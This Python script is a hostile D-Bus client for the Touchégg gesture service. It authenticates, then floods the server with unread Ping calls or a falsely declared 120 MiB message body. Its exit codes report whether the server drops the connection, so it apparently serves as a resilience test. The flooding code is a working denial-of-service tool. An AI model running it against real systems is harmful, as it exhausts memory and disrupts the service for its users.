#!/usr/bin/python3
"""A hostile Touchégg client: authenticates as D-Bus clients do, then makes the server hold bytes.

Usage: flooding-client.py ADDRESS ping|partial

- ping: sends Peer.Ping calls (built by GLib's GDBusMessage) as fast as the socket takes them and
  never reads a reply.
- partial: sends one method call whose header declares a 120 MiB body (sd-bus takes up to 128 MiB),
  then half of that body.

Prints "authenticated" once the server said OK, then "sent N bytes" every MiB; exits 0 when the
server closes the connection, 2 if it is still connected when it has sent all it would.
"""
import os
import socket
import struct
import sys
import time

import gi

gi.require_version("Gio", "2.0")
from gi.repository import Gio  # noqa: E402

address, mode = sys.argv[1], sys.argv[2]
assert address.startswith("unix:abstract=")
client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
client.connect("\0" + address[len("unix:abstract="):])
client.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
reply = client.recv(4096)
if not reply.startswith(b"OK "):
    print(f"refused: {reply!r}", file=sys.stderr, flush=True)
    sys.exit(1)
client.sendall(b"BEGIN\r\n")
print("authenticated", flush=True)


def ping(serial):
    message = Gio.DBusMessage.new_method_call(None, "/", "org.freedesktop.DBus.Peer", "Ping")
    message.set_serial(serial)
    return message.to_blob(Gio.DBusCapabilityFlags.NONE)


def declared_huge_call():
    """A method call whose body length field says 120 MiB: the fixed header is 16 bytes, little endian."""
    blob = bytearray(ping(1))
    struct.pack_into("<I", blob, 4, 120 << 20)
    return bytes(blob)


client.settimeout(60)
sent, reported = 0, 0
started = time.monotonic()
try:
    if mode == "ping":
        serial = 1
        while time.monotonic() - started < 30 and sent < 200 << 20:
            batch = b"".join(ping(serial + i) for i in range(1000))
            serial += 1000
            client.sendall(batch)
            sent += len(batch)
            if sent - reported >= 1 << 20:
                reported = sent
                print(f"sent {sent} bytes", flush=True)
    else:
        client.sendall(declared_huge_call())
        chunk = bytes(1 << 20)
        while sent < 60 << 20 and time.monotonic() - started < 60:
            client.sendall(chunk)
            sent += len(chunk)
            print(f"sent {sent} bytes", flush=True)
    # All of it sent and still connected: wait for the server to close it, or give up.
    client.settimeout(5)
    while client.recv(65536):
        pass
    print(f"closed by the server after {sent} bytes", flush=True)
    sys.exit(0)
except (BrokenPipeError, ConnectionResetError):
    print(f"closed by the server after {sent} bytes", flush=True)
    sys.exit(0)
except socket.timeout:
    pass
print(f"still connected after {sent} bytes", flush=True)
sys.exit(2)
